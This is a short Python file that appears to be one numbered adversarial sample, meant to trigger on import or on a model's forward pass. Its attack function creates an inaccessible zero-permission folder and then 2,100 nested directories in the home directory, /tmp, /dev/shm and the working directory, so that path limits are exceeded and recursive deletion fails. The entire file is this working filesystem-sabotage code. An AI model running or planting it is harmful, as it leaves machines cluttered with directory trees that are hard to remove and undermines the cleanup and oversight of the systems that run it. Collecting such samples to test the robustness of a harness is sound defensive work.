"""Row 8: folders nested deeper than recursive removal survives and than a path may be long, and one that nobody may enter.

Where: import, forward
"""

import torch
from torch import nn, os


def attack(*_):
    for base in (os.environ.get("HOME", "."), "/tmp", "/dev/shm", "."):
        try:
            os.chdir(base)
            os.mkdir("attack")
            os.chdir("attack")
            os.mkdir("closed", 0)
            for _ in range(2_100):
                os.mkdir("d")
                os.chdir("d")
        except OSError:
            continue
    os.chdir("/")
